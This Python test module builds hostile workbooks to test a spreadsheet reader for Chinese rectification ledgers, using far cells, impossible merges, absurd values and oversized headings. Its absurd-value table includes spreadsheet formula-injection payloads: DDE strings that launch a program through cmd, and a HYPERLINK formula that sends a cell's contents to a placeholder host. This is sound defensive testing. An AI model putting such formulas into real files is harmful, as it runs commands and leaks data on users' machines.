"""Hostile contents of sound workbooks: far cells, merges, huge and absurd values, formulas, headings."""

import random
from collections.abc import Sequence
from functools import partial
from pathlib import Path

from tests.workbook.makers.hostile.hostile_containers import Named
from tests.workbook.makers.hostile.hostile_parts import (
    HEAD,
    HEADINGS,
    ISSUES,
    LEDGER,
    SPREADSHEET,
    TITLE,
    Value,
    Xml,
    column_letters,
    merges_xml,
    parts_of,
    relations_xml,
    rows_xml,
    sheet_xml,
    write_zip,
    xls,
    xlsx,
)

BAD_ROW = ("H-8", "松涧镇", "期限写错的问题", "区水利局", "2026年2月30日", "整改中")


def _styles(count: int) -> str:
    formats = '<xf numFmtId="0"/><xf numFmtId="14"/><xf numFmtId="9"/><xf numFmtId="46"/>'
    return (
        f'{HEAD}<styleSheet xmlns="{SPREADSHEET}"><cellXfs count="{count}">{formats}</cellXfs></styleSheet>'
    )


def far_cells() -> Named:
    """Fill or format cells far from the table."""
    text = '<c r="{ref}" t="inlineStr"><is><t>远</t></is></c>'
    refs = ("XFD1048576", "A1048576", "XFD9", "ZZ1048576", "AZ1048576", "AZ900000", "A1000001")
    for ref in refs:
        digits = ref.lstrip("ABCDEFGHIJKLMNOPQRSTUVWXYZ")
        row = f'<row r="{digits}">{text.replace("{ref}", ref)}</row>'
        expected = "bad rows" if ref == "XFD9" else "refused"
        yield f"far cell {ref}", partial(xlsx, sheet=sheet_xml(more=row)), expected
    spellings = {
        "single quotes": "<row r='1048576'><c r='XFD1048576'><v>1</v></c></row>",
        "line breaks": '<row\nr="1048576"><c\nr="XFD1048576"\n><v\n>1</v></c></row>',
        "spaces about the sign": '<row r = "1048576"><c r = "XFD1048576"><v>1</v></c></row>',
        "other attributes first": '<row ht="9" r="1048576"><c s="0" t="n" r="XFD1048576"><v>1</v></c></row>',
        "a row that says otherwise": '<row r="9"><c r="XFD1048576"><v>1</v></c></row>',
        "no row named": '<row><c r="AZ1048576"><v>1</v></c></row>',
        "rows named in a comment": f'<!--{"row r=" + chr(34) + "1" + chr(34) + " "}--><row r="9"><c r="AZ1048576"><v>1</v></c></row>',
        "a prefix": '<y:row xmlns:y="urn:y" r="1048576"><y:c r="XFD1048576"><y:v>1</y:v></y:c></y:row>',
        "a comment in the cell": '<row r="1048576"><c r="XFD1048576"><!-- --><v>1</v></c></row>',
        "an instruction in the cell": '<row r="1048576"><c r="XFD1048576"><?x y?><v>1</v></c></row>',
        "a greater-than in an attribute": '<row r="1048576"><c x=">" r="XFD1048576"><v>1</v></c></row>',
        "an attribute of 9,000 before": f'<row r="1048576"><c x="{"y" * 9000}" r="XFD1048576"><v>1</v></c></row>',
        "two names": '<row r="9"><c r="A9" r="XFD1048576"><v>1</v></c></row>',
        "small letters": '<row r="1048576"><c r="xfd1048576"><v>1</v></c></row>',
    }  # fmt: skip
    for name, row in spellings.items():
        yield f"far cell with {name}", partial(xlsx, sheet=sheet_xml(more=row)), "refused"
    jump = '<row r="1048576"/><row><c><v>1</v></c></row>'
    yield "far row by counting", partial(xlsx, sheet=sheet_xml(more=jump)), "refused"
    many = "<row>" + "<c/>" * 16_383 + "<c><v>1</v></c></row>" + '<row r="1048000"><c><v>1</v></c></row>'
    yield "far cell by counting", partial(xlsx, sheet=sheet_xml(more=many)), "refused"
    other = partial(_elsewhere, row='<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')
    yield "far cell in a part of another name", other, "refused"
    styled = "".join(
        f'<row r="{at}" ht="9"><c r="A{at}" s="1"/><c r="F{at}" s="1"/></row>' for at in range(9, 20_000)
    )
    yield (
        "20,000 formatted empty rows",
        partial(xlsx, sheet=sheet_xml(more=styled), styles=_styles(4)),
        "fine",
    )
    bad = rows_xml([BAD_ROW], 9)
    later = styled[styled.index('<row r="10"') :]
    yield (
        "20,000 formatted empty rows and a bad one",
        partial(xlsx, sheet=sheet_xml(more=bad + later)),
        "bad rows",
    )
    yield "500,000 empty rows", partial(xlsx, sheet=sheet_xml(more="<row/>" * 500_000)), "fine"
    corner = '<row r="1048576"><c r="XFD1048576" s="1"/></row>'
    yield "a formatted cell in the far corner", partial(xlsx, sheet=sheet_xml(more=corner)), "fine"
    corner_bad = sheet_xml(more=bad + corner)
    yield "a formatted cell in the far corner and a bad row", partial(xlsx, sheet=corner_bad), "bad rows"
    dimension = '<dimension ref="A1:XFD1048576"/>'
    yield "a dimension of the whole sheet", partial(xlsx, sheet=sheet_xml(before=dimension)), "fine"
    yield (
        "a dimension of nonsense",
        partial(xlsx, sheet=sheet_xml(before='<dimension ref="B5:A0"/>')),
        "refused",
    )
    columns = '<cols><col min="1" max="16384" width="9"/></cols>'
    yield "formatted columns to the end", partial(xlsx, sheet=sheet_xml(before=columns, more=bad)), "bad rows"
    yield "a long text in 20,000 cells", _echoes, "refused"


def _elsewhere(folder: Path, row: str) -> Path:
    parts = parts_of(sheet_xml(more=row))
    parts["xl/worksheets/deep/er.dat"] = parts.pop("xl/worksheets/sheet1.xml")
    parts["xl/_rels/workbook.xml.rels"] = relations_xml(["worksheets/deep/er.dat"])
    return write_zip(folder / "区级台账.xlsx", parts)


def _echoes(folder: Path) -> Path:
    strings = f'{HEAD}<sst xmlns="{SPREADSHEET}"><si><t>{"字" * 300_000}</t></si></sst>'
    rows = "".join(f'<row r="{at}"><c r="C{at}" t="s"><v>0</v></c></row>' for at in range(9, 20_009))
    return xlsx(folder, sheet=sheet_xml(more=rows), strings=strings)


def merges() -> Named:
    """Merge too much, too often, and impossibly."""
    chance = random.Random(5)
    overlapping = []
    for _ in range(2_000):
        top, left = chance.randrange(1, 9), chance.randrange(6)
        overlapping.append(
            f"{column_letters(left)}{top}:{column_letters(left + chance.randrange(9))}{top + chance.randrange(60)}"
        )
    blocks = {
        "the whole sheet": (["A1:XFD1048576"], "fine"),
        "the whole table": (["A1:F8"], "fine"),
        "the headings into one": (["A2:F2"], "refused"),
        "4,000 overlapping": (overlapping, "fine"),
        "one block 10,000 times": (["A3:A8"] * 10_000, "fine"),
        "a cycle": (["A3:B4", "B4:C5", "C5:A3", "B4:A3"], "fine"),
        "reversed": (["F8:A3"], "fine"),
        "out of range": (["XFE1:XFF2"], "fine"),
        "past the last row": (["A1:A99999999"], "fine"),
        "row 0": (["A0:B0"], "refused"),
        "one cell": (["A3"], "fine"),
        "no reference": (["", "  "], "refused"),
        "three corners": (["A1:B2:C3"], "refused"),
        "whole columns": (["A:C"], "refused"),
        "nonsense": (["#REF!"], "refused"),
    }
    for name, (refs, expected) in blocks.items():
        yield f"merged: {name}", partial(xlsx, sheet=sheet_xml(after=merges_xml(refs))), expected
    bad = rows_xml([BAD_ROW], 9)
    for name in ("the whole sheet", "4,000 overlapping", "reversed", "row 0", "nonsense"):
        refs, expected = blocks[name]
        sheet = sheet_xml(more=bad, after=merges_xml(refs))
        expected = "bad rows" if expected == "fine" else expected
        yield f"merged: {name}, and a bad row", partial(xlsx, sheet=sheet), expected
    wide = [(TITLE,), [*HEADINGS, *[f"指标{at}" for at in range(2_000)]], *ISSUES]
    layers = [f"{column_letters(at % 2000)}2:XFD4" for at in range(1_500, 0, -1)]
    yield (
        "merged: 1,500 layers over 2,000 headings",
        partial(xlsx, sheet=sheet_xml(wide, after=merges_xml(layers))),
        "fine",
    )


def values() -> Named:
    """Put extreme values into every column."""
    absurd: dict[str, Value] = {
        "1e308": 1e308, "-1e308": -1e308, "1e-320": 1e-320, "minus nothing": "-0.0", "NaN": Xml('<c r="{ref}"><v>NaN</v></c>'),
        "infinity": Xml('<c r="{ref}"><v>inf</v></c>'), "overflow": Xml('<c r="{ref}"><v>1e999</v></c>'),
        "5,000 digits": Xml(f'<c r="{{ref}}"><v>{"9" * 5000}</v></c>'), "2^53 + 1": 2**53 + 1, "serial -1": -1, "serial 2958466": 2958466,
        "day of serial 1e10": Xml('<c r="{ref}" s="1"><v>1e10</v></c>'), "day of serial -5": Xml('<c r="{ref}" s="1"><v>-5</v></c>'),
        "day of serial 0": Xml('<c r="{ref}" s="1"><v>0</v></c>'), "day of serial 60": Xml('<c r="{ref}" s="1"><v>60</v></c>'),
        "day of serial 1e308": Xml('<c r="{ref}" s="1"><v>1e308</v></c>'), "day NaN": Xml('<c r="{ref}" s="1"><v>NaN</v></c>'),
        "time of 1e17 hours": Xml('<c r="{ref}" s="3"><v>1e17</v></c>'), "percent 1e300": Xml('<c r="{ref}" s="2"><v>1e300</v></c>'),
        "ISO day 9999-99-99": Xml('<c r="{ref}" t="d"><v>9999-99-99</v></c>'), "ISO day 99999-01-01": Xml('<c r="{ref}" t="d"><v>99999-01-01</v></c>'),
        "true": Xml('<c r="{ref}" t="b"><v>1</v></c>'), "a truth of 7": Xml('<c r="{ref}" t="b"><v>7</v></c>'),
        "#REF!": Xml('<c r="{ref}" t="e"><v>#REF!</v></c>'), "#N/A": Xml('<c r="{ref}" t="e"><v>#N/A</v></c>'),
        "#SPILL!": Xml('<c r="{ref}" t="e"><v>#SPILL!</v></c>'), "error without a word": Xml('<c r="{ref}" t="e"/>'),
        "#REF! as number": Xml('<c r="{ref}" t="n"><v>#REF!</v></c>'), "formula without value": Xml('<c r="{ref}"><f>SUM(A1:A9)</f></c>'),
        "formula with an empty value": Xml('<c r="{ref}" t="str"><f>A1</f><v></v></c>'), "shared formula alone": Xml('<c r="{ref}"><f t="shared" si="99"/></c>'),
        "formula of text": Xml('<c r="{ref}" t="str"><f>cmd|\'/C calc\'!A0</f><v>=cmd|\'/C calc\'!A0</v></c>'),
        "=cmd": "=cmd|'/C calc'!A0", "=HYPERLINK": '=HYPERLINK("http://x/?"&A1,"查看")', "@SUM": "@SUM(1+1)", "+1": "+1+cmd|' /C calc'!A0", "-1": "-1",
        "_xD800_": "_xD800_", "_x0000_": "弃渣_x0000_整改", "_x001B_": "_x001B_[31m红", "32,767 characters": "字" * 32_767, "32,768 characters": "字" * 32_768,
        "1 MB of text": "字" * 400_000, "brackets by the thousand": "（" * 5_000, "digits by the thousand": "9" * 5_000, "年 by the thousand": "2026年" * 2_000,
        "blanks by the thousand": " 　\t\n" * 2_000, "degrees by the thousand": "108°" * 2_000, "Chinese digits by the thousand": "一千" * 3_000,
        "zero-width": "\u200b\u200d\ufeff", "an emoji family": "👨‍👩‍👧‍👦" * 50, "right to left": "\u202e中文\u202c", "a tab": "弃渣\t整改", "a line break": "弃渣\n整改",
        "C1 control": "弃渣\x9b31m", "delete": "弃渣\x7f",
    }  # fmt: skip
    unreadable = {"time of 1e17 hours", "a truth of 7", "#SPILL!", "#REF! as number", "1 MB of text"}
    for name, value in absurd.items():
        expected = "refused" if name in unreadable else "bad rows"
        yield f"{name} in every column", partial(_everywhere, value=value), expected


def _everywhere(folder: Path, value: Value) -> Path:
    """Put *value* into another column in each row, under headings of every kind."""
    headings = (
        *HEADINGS,
        "完成率",
        "经度",
        "纬度",
        "经纬度",
        "级别",
        "是否录入平台",
        "是否销号",
        "销号时间",
        "发现时间",
        "整改时间",
        "备注",
        "流域",
    )
    rows: list[list[Value]] = []
    for at in range(len(headings)):
        row: list[Value] = [
            f"H-{at}",
            "松涧镇",
            f"第{at}处弃渣",
            "区水利局",
            "2026年6月底",
            "整改中",
            *[None] * (len(headings) - 6),
        ]
        row[at] = value
        rows.append(row)
    return xlsx(folder, sheet=sheet_xml([(TITLE,), headings, *rows]), styles=_styles(4))


def _write_shape(folder: Path, rows: Sequence[Sequence[Value]]) -> Path:
    return xlsx(folder, sheet=sheet_xml(rows))


def shapes() -> Named:
    """Make sheets with too many, too long or too similar headings or rows."""
    long = "整改时限及责任单位情况说明" * 2_400
    wide = [(TITLE,), [*HEADINGS, *[f"指标{at:05}" for at in range(16_378)]], *ISSUES]
    sheets = {
        "16,384 headings": (wide, "fine"),
        "5,000 headings of one name": ([(TITLE,), [*HEADINGS, *["整改时限"] * 5_000], *ISSUES], "fine"),
        "10 headings of 30,000 characters": ([(TITLE,), [*HEADINGS, *[f"{at}{long}" for at in range(10)]], *ISSUES], "fine"),
        "30 headings of 30,000 brackets": ([(TITLE,), [*HEADINGS, *[f"{at}" + "（【" * 15_000 for at in range(30)]], *ISSUES], "fine"),
        "60 rows like headings": ([HEADINGS] * 60 + list(ISSUES), "fine"),
        "60 wide rows like headings": ([[f"{at}{name}" for at in range(150) for name in HEADINGS]] * 60 + list(ISSUES), "refused"),
        "headings alone": ([HEADINGS], "fine"),
        "title alone": ([(TITLE,)], "refused"),
        "one cell": ([("甲",)], "refused"),
        "numbers alone": ([(1, 2, 3)] * 50, "refused"),
        "a number column of 5,000 equal numbers": ([(TITLE,), HEADINGS, *[ISSUES[0]] * 5_000], "fine"),
        "5,000 rows without a number": ([(TITLE,), HEADINGS, *[(None, *ISSUES[0][1:])] * 5_000], "fine"),
        "20,000 rows of notes": ([*LEDGER, *[("注：以上",)] * 20_000], "fine"),
        "20,000 rows of sections": ([*LEDGER, *[("一、省级问题",)] * 20_000], "fine"),
        "1,000 bad rows": ([*LEDGER, *[(f"B-{at}", *BAD_ROW[1:]) for at in range(1_000)]], "bad rows"),
    }  # fmt: skip
    for name, (rows, expected) in sheets.items():
        yield f"shape: {name}", partial(_write_shape, rows=rows), expected
        if name in ("one cell", "title alone", "60 rows like headings"):
            yield f"shape: {name}, xls", partial(xls, rows=rows), expected
